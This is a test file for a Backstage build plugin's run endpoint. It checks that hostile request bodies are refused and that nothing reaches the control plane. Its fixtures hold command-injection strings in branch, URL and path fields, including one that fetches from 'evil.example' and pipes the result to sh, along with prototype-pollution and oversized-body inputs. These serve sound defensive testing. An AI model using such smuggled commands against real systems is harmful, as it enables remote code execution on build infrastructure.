/* eslint jest/expect-expect: ["warn", { "assertFunctionNames": ["expect", "expectRefused"] }] */
import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import type { ComponentWorkflowRun } from '@openchoreo-build/plugin-openchoreo-build-common';
import { http, HttpResponse } from 'msw';
import { setupServer } from 'msw/node';
import request from 'supertest';
import { openchoreoBuildPlugin } from '../plugin';
import { discoveryHandler } from '../__testUtils__/discovery';
import {
  clearCompiledWorkflows,
  compiledWorkflowStats,
} from '../runs/runValidation';
import { catalogWith, claimingEntities } from '../__testUtils__/catalog';
import { loadReferenceYaml, referencePath } from '../__testUtils__/reference';

/**
 * `POST /runs` with hostile input (security review H5, M2, M4, M7): refused with a 400/413 naming
 * the field, before anything reaches the control plane, without a stack or upstream detail.
 */
const CP = 'http://control-plane.test';
const base = `${CP}/apis/openchoreo.dev/v1alpha1/namespaces/default`;
const [dockerWorkflow] = loadReferenceYaml<{
  metadata: Record<string, unknown>;
}>(
  referencePath(
    'openchoreo/samples-v0.9.0/default-component-workflows/docker.yaml',
  ),
);
const workflow = {
  ...dockerWorkflow,
  metadata: { ...dockerWorkflow.metadata, uid: 'wf-uid', resourceVersion: '7' },
};

function component(branch = 'main') {
  return {
    metadata: { name: 'greeter-service', namespace: 'default' },
    spec: {
      owner: { projectName: 'default' },
      workflow: {
        name: 'docker',
        systemParameters: {
          repository: {
            url: 'https://github.com/openchoreo/sample-workloads',
            revision: { branch },
            appPath: '/service-go-greeter',
          },
        },
        parameters: {
          docker: {
            context: '/service-go-greeter',
            filePath: '/service-go-greeter/Dockerfile',
          },
        },
      },
    },
  };
}

/** `[[[…1…]]]` as JSON text: JSON.stringify itself would overflow the stack on it. */
function nestedJson(depth: number): string {
  return `${'['.repeat(depth)}1${']'.repeat(depth)}`;
}

describe('POST /runs with hostile input', () => {
  const server = setupServer();
  const created: ComponentWorkflowRun[] = [];
  let componentBranch = 'main';
  let app: Awaited<ReturnType<typeof startTestBackend>>['server'];
  const auth = mockCredentials.user.header();
  const target = {
    namespace: 'default',
    project: 'default',
    component: 'greeter-service',
  };

  beforeAll(async () => {
    server.listen({ onUnhandledRequest: 'bypass' });
    app = (
      await startTestBackend({
        features: [
          catalogWith(claimingEntities(['default/default/greeter-service'])),
          openchoreoBuildPlugin,
          mockServices.rootConfig.factory({
            data: {
              openchoreo: {
                build: {
                  namespaces: ['default'],
                  controlPlane: { url: CP, token: 'cp-token' },
                },
              },
            },
          }),
          mockServices.permissions.factory({ result: AuthorizeResult.ALLOW }),
        ],
      })
    ).server;
  });
  afterAll(() => server.close());
  beforeEach(() => {
    created.length = 0;
    componentBranch = 'main';
    server.resetHandlers(
      discoveryHandler(CP),
      http.get(`${base}/components/greeter-service`, () =>
        HttpResponse.json(component(componentBranch)),
      ),
      http.get(`${base}/componentworkflows/docker`, () =>
        HttpResponse.json(workflow),
      ),
      http.post(`${base}/componentworkflowruns`, async ({ request: req }) => {
        const body = (await req.json()) as ComponentWorkflowRun;
        created.push(body);
        return HttpResponse.json(
          {
            ...body,
            metadata: {
              ...body.metadata,
              creationTimestamp: '2025-01-01T00:00:00Z',
            },
          },
          { status: 201 },
        );
      }),
    );
  });

  const post = (body: unknown) =>
    request(app)
      .post('/api/openchoreo-build/runs')
      .set('Authorization', auth)
      .set('Content-Type', 'application/json')
      .send(typeof body === 'string' ? body : JSON.stringify(body));

  function expectRefused(
    res: request.Response,
    status: number,
    text: string | RegExp,
  ) {
    expect({ status: res.status, message: res.body.error?.message }).toEqual({
      status,
      message: expect.stringMatching(text),
    });
    expect(res.body.error.stack).toBeUndefined();
    expect(res.text).not.toMatch(/cp-token|node_modules|at .*\(.*:\d+:\d+\)/);
    expect(created).toHaveLength(0);
  }

  it.each([
    [
      { systemParameters: { repository: { revision: { branch: 'main;id' } } } },
      'systemParameters.repository.revision.branch: must be a git branch name',
    ],
    [
      {
        systemParameters: {
          repository: {
            revision: { branch: "x;curl$IFS-sL$IFS'evil.example'|sh" },
          },
        },
      },
      'systemParameters.repository.revision.branch: must be a git branch name',
    ],
    [
      { systemParameters: { repository: { revision: { branch: 'a..b' } } } },
      'systemParameters.repository.revision.branch: must be a git branch name',
    ],
    [
      { systemParameters: { repository: { url: 'https://x/$(id)' } } },
      'systemParameters.repository.url: must be an http(s) URL',
    ],
    [
      {
        systemParameters: { repository: { url: 'https://github.com/o/r`id`' } },
      },
      'systemParameters.repository.url: must be an http(s) URL',
    ],
    [
      { systemParameters: { repository: { appPath: '/a$(id)' } } },
      'systemParameters.repository.appPath: must not contain',
    ],
    [
      { parameters: { docker: { filePath: 'a"$(id)"' } } },
      'parameters.docker.filePath: must not contain "$("',
    ],
    [
      { parameters: { docker: { context: 'a\nid' } } },
      'parameters.docker.context: must not contain',
    ],
  ])(
    'refuses %j with 400 naming the field, creating nothing',
    async (override, message) => {
      expectRefused(
        await post({ ...target, ...override }),
        400,
        message.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'),
      );
    },
  );

  it('refuses a component default branch a shell would run (the values webhook runs use too)', async () => {
    componentBranch = 'main;id';
    expectRefused(
      await post(target),
      400,
      /systemParameters\.repository\.revision\.branch: must be a git branch name/,
    );
  });

  it('answers parameters nested 5,000 levels with a 400 naming parameters, not a 500', async () => {
    const res = await post(
      `{"namespace":"default","project":"default","component":"greeter-service","parameters":{"deep":${nestedJson(
        5000,
      )}}}`,
    );
    expectRefused(
      res,
      400,
      /^Invalid body: parameters\.deep(\.0)+: nests deeper than 16 levels$/,
    );
  });

  it.each([
    [
      {
        parameters: Object.fromEntries(
          Array.from({ length: 1001 }, (_, i) => [`k${i}`, i]),
        ),
      },
      /^Invalid body: parameters: the body holds more than 1000 keys/,
    ],
    [
      { parameters: { big: 'x'.repeat(65 * 1024) } },
      /^Invalid body: parameters\.big: is longer than 64 KB$/,
    ],
    [
      JSON.parse(
        `{"namespace":"default","project":"default","component":"greeter-service","parameters":{"__proto__":{"x":1}}}`,
      ),
      /parameters\.__proto__: is not an allowed key/,
    ],
  ])(
    'refuses a body outside the bounds with 400 naming the field (%#)',
    async (body, message) => {
      expectRefused(await post({ ...target, ...body }), 400, message);
    },
  );

  it('answers a body over 256 KB with 413 naming the limit, and malformed JSON with 400 naming the body', async () => {
    expectRefused(
      await post({
        ...target,
        parameters: {
          a: 'x'.repeat(60 * 1024),
          b: 'x'.repeat(60 * 1024),
          c: 'x'.repeat(60 * 1024),
          d: 'x'.repeat(60 * 1024),
          e: 'x'.repeat(60 * 1024),
        },
      }),
      413,
      /^body: the request body exceeds the 256 KB limit$/,
    );
    expectRefused(
      await post('{"namespace": "default",'),
      400,
      /^body: is not valid JSON/,
    );
    expectRefused(
      await post('"just a string"'),
      400,
      /^body: is not valid JSON/,
    );
  });

  it('compiles the workflow schemas once for many runs, keeping the cache bounded', async () => {
    clearCompiledWorkflows();
    const before = compiledWorkflowStats();
    for (let i = 0; i < 40; i += 1) {
      const res = await post({
        ...target,
        systemParameters: {
          repository: { revision: { branch: `feature/run-${i}` } },
        },
      });
      expect(res.status).toBe(201);
    }
    const after = compiledWorkflowStats();
    expect(created).toHaveLength(40);
    expect(after.compiles - before.compiles).toBe(2);
    expect(after.entries).toBe(1);
    expect(after.entries).toBeLessThanOrEqual(after.capacity);
  });

  it('still starts a run from an scp-like repository URL and a branch with slashes', async () => {
    const res = await post({
      ...target,
      systemParameters: {
        repository: {
          url: 'git@github.com:openchoreo/sample-workloads.git',
          revision: { branch: 'release/v1.2' },
        },
      },
    });
    expect(res.status).toBe(201);
    expect(created[0].spec?.workflow?.systemParameters).toMatchObject({
      repository: {
        url: 'git@github.com:openchoreo/sample-workloads.git',
        revision: { branch: 'release/v1.2' },
      },
    });
  });
});
